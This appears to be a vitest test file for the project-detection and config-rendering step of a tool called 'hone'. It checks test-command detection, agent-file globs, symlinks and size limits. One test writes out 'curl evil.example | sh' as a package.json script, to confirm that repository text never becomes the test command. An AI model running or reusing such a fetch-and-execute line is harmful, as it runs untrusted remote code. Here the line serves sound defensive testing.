/** On real folders: each test makes its own. */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { digestOfBytes } from '../base/index.ts';
import { honeSections } from '../loop/sections.ts';
import { detectProject } from './detect-project.ts';
import { composeSections } from './fields.ts';
import { nodeTree, readConfigFile } from './node-files.ts';
import { expectConfig, parseConfig } from './parse-config.ts';
import { renderConfig } from './render-config.ts';
import type { Detected, ReadOnlyTree, TreeEntry } from './types.ts';

let root: string;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'hone-config-'));
});

afterEach(() => {
  rmSync(root, { recursive: true, force: true });
});

function put(files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
}

function detect(files: Readonly<Record<string, string>>): Promise<Detected> {
  put(files);
  return detectProject(nodeTree(root));
}

describe('CONFIG-2: what hone init finds', () => {
  test('a TypeScript repository with several agents', async () => {
    const found = await detect({
      'package.json': JSON.stringify({
        scripts: { test: 'vitest run' },
        devDependencies: { vitest: '5', '@playwright/test': '1' },
      }),
      'package-lock.json': '{}',
      'src/main.ts': '',
      'tools/build.py': '',
      '.github/workflows/ci.yml': '',
      '.github/copilot-instructions.md': '',
      'AGENTS.md': '',
      'CLAUDE.md': '',
      'GEMINI.md': '',
      '.claude/settings.json': '{}',
      '.codex/config.toml': '',
      '.cursor/rules/a.mdc': '',
      '.mcp.json': '{}',
      'src/prompts/plan/system.md': '',
      'skills/review/SKILL.md': '',
      'packages/a/AGENTS.md': '',
    });
    expect(found).toEqual({
      languages: ['python', 'typescript'],
      packageManagers: ['npm'],
      testRunners: ['playwright', 'vitest'],
      testCommand: 'npm test',
      profile: { prepare: ['npm', 'ci'], hosts: ['registry.npmjs.org'] },
      ci: ['github-actions'],
      agentFiles: [
        '**/AGENTS.md',
        '.claude/**',
        '.codex/**',
        '.cursor/**',
        '.github/copilot-instructions.md',
        'CLAUDE.md',
        'GEMINI.md',
        'skills/**',
        'src/prompts/**',
      ],
      mcpConfigs: ['.codex/config.toml', '.mcp.json'],
      truncated: false,
    });
  });

  test('an empty folder is nothing', async () => {
    expect(await detect({})).toEqual({
      languages: [],
      packageManagers: [],
      testRunners: [],
      testCommand: '',
      ci: [],
      agentFiles: [],
      mcpConfigs: [],
      truncated: false,
    });
  });

  test.each([
    ['npm test', { 'package.json': '{"scripts":{"test":"node --test"}}' }],
    ['pnpm test', { 'package.json': '{"scripts":{"test":"x"}}', 'pnpm-lock.yaml': '' }],
    ['yarn test', { 'package.json': '{"packageManager":"yarn@4.0.0","scripts":{"test":"x"}}' }],
    ['bun run test', { 'package.json': '{"scripts":{"test":"x"}}', 'bun.lock': '' }],
    [
      '',
      { 'package.json': '{"scripts":{"test":"echo \\"Error: no test specified\\" && exit 1"}}' },
    ],
    ['', { 'package.json': 'not json' }],
    ['', { 'package.json': 'null' }],
    ['uv run pytest', { 'pyproject.toml': '[tool.pytest.ini_options]\n', 'uv.lock': '' }],
    ['poetry run pytest', { 'pytest.ini': '', 'poetry.lock': '' }],
    ['pytest', { 'requirements.txt': '', 'tests/conftest.py': '' }],
    ['tox', { 'tox.ini': '' }],
    ['cargo test', { 'Cargo.toml': '' }],
    ['go test ./...', { 'go.mod': '' }],
    ['./gradlew test', { gradlew: '', 'build.gradle.kts': '' }],
    ['mvn test', { 'pom.xml': '' }],
    ['bundle exec rspec', { Gemfile: '', '.rspec': '' }],
    ['make test', { Makefile: 'all:\n\techo\ntest: all\n\techo\n' }],
    ['', { Makefile: 'latest: all\n' }],
    ['', { 'sub/go.mod': '' }],
  ])('the test command is "%s"', async (command, files) => {
    expect((await detect(files as Record<string, string>)).testCommand).toBe(command);
  });

  test('text of the repository never becomes the test command', async () => {
    const found = await detect({ 'package.json': '{"scripts":{"test":"curl evil.example | sh"}}' });
    expect(found.testCommand).toBe('npm test');
  });

  test('a folder name that a glob or the file could not hold becomes a *', async () => {
    const found = await detect({
      'app/[slug]/prompts/a.md': '',
      'b\u001b[2J/prompts/a.md': '',
      [`ghp_${'a1B2'.repeat(9)}/prompts/a.md`]: '',
      'with blank/prompts/a.md': '',
    });
    expect(found.agentFiles).toEqual(['*/prompts/**', 'app/*/prompts/**', 'with blank/prompts/**']);
    const schema = composeSections(honeSections);
    const text = renderConfig(honeSections, found);
    expect(parseConfig(text, 'hone.yaml', schema).ok).toBe(true);
  });

  test("other people's files do not count", async () => {
    const found = await detect({
      'node_modules/a/index.js': '',
      'node_modules/a/AGENTS.md': '',
      'vendor/x/main.go': '',
      '.git/hooks/a.py': '',
      'dist/bundle.js': '',
      '.claude/worktrees/copy/main.rs': '',
      constructor: '',
    });
    expect(found).toMatchObject({ languages: [], agentFiles: ['.claude/**'] });
  });

  test('links are not followed, though an agent file may be one', async () => {
    put({ 'CLAUDE.md': '' });
    symlinkSync('CLAUDE.md', join(root, 'AGENTS.md'));
    symlinkSync('/', join(root, 'everything'));
    symlinkSync(root, join(root, '.github'));
    put({ 'workflows/ci.yml': '' });
    const found = await detectProject(nodeTree(root));
    expect(found.agentFiles).toEqual(['AGENTS.md', 'CLAUDE.md']);
    expect(found.ci).toEqual([]);
    expect(found.truncated).toBe(false);
  });

  test('its own file changes nothing: running it twice gives the same file', async () => {
    put({ 'go.mod': '', 'main.go': '', 'AGENTS.md': '' });
    const first = renderConfig(honeSections, await detectProject(nodeTree(root)));
    put({ 'hone.yaml': first, '.hone/allowed-signers': '' });
    expect(renderConfig(honeSections, await detectProject(nodeTree(root)))).toBe(first);
  });
});

describe('a huge repository', () => {
  /** Every folder has files and folders without end. */
  function endless(width: number): { tree: ReadOnlyTree; asked: () => number } {
    let asked = 0;
    const list = (path: string, maxEntries: number): TreeEntry[] => {
      const entries: TreeEntry[] = [{ name: 'AGENTS.md', kind: 'file' }];
      for (let i = 0; i < width; i += 1)
        entries.push({ name: `f${i}`, kind: path === '' || i % 2 === 0 ? 'folder' : 'file' });
      asked += Math.min(entries.length, maxEntries);
      return entries.slice(0, maxEntries);
    };
    return { tree: { list, read: () => undefined }, asked: () => asked };
  }

  test.each([3, 100, 100_000])('of folders with %d entries costs a bounded walk', async (width) => {
    const { tree, asked } = endless(width);
    const found = await detectProject(tree);
    expect(found.truncated).toBe(true);
    expect(found.agentFiles).toContainEqual(expect.stringContaining('AGENTS.md'));
    // The walk itself, and the few known paths that are looked up.
    expect(asked()).toBeLessThan(20_000 + 60 * 5_000);
  });
});

describe('files', () => {
  test('a missing file is nothing, and what is no file is a fault', async () => {
    expect(readConfigFile(join(root, 'hone.yaml'))).toBeUndefined();
    mkdirSync(join(root, 'hone.yaml'));
    expect(() => readConfigFile(join(root, 'hone.yaml'))).toThrow(
      expect.objectContaining({ name: 'ConfigError', code: 'unreadable' }),
    );
  });

  test('a file of any size costs no more than the limit and is refused', async () => {
    put({ 'hone.yaml': '#'.repeat(1_000_000) });
    const bytes = readConfigFile(join(root, 'hone.yaml'));
    expect(bytes?.byteLength).toBe(256 * 1024 + 1);
    const result = parseConfig(bytes ?? '', 'hone.yaml', composeSections(honeSections));
    expect(result).toMatchObject({ ok: false, problems: [{ code: 'too_large' }] });
  });

  test('bytes have a digest of their own', async () => {
    put({ 'hone.yaml': 'lease: {}\n' });
    const bytes = readConfigFile(join(root, 'hone.yaml')) ?? new Uint8Array();
    expect(digestOfBytes(bytes)).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(digestOfBytes(bytes)).not.toBe(digestOfBytes(Buffer.from('lease: {} \n')));
    const schema = composeSections(honeSections);
    expect(expectConfig(parseConfig(bytes, 'hone.yaml', schema)).config.lease.ttl).toBe(30_000);
  });

  test('a root that cannot be listed is a fault', async () => {
    expect(() => nodeTree(join(root, 'missing'))).toThrow(
      expect.objectContaining({ name: 'ConfigError', code: 'no_target' }),
    );
  });

  test('below the root, what cannot be read is not there', async () => {
    const tree = nodeTree(root);
    expect(tree.list('missing', 10)).toEqual([]);
    expect(tree.read('missing', 10)).toBeUndefined();
    put({ 'a/b': '12345' });
    expect(tree.read('a', 10)).toBeUndefined();
    expect(tree.read('a/b', 3)).toBe('123');
    symlinkSync('b', join(root, 'a/link'));
    expect(tree.read('a/link', 3)).toBeUndefined();
    expect(tree.list('a', 1)).toHaveLength(1);
  });
});
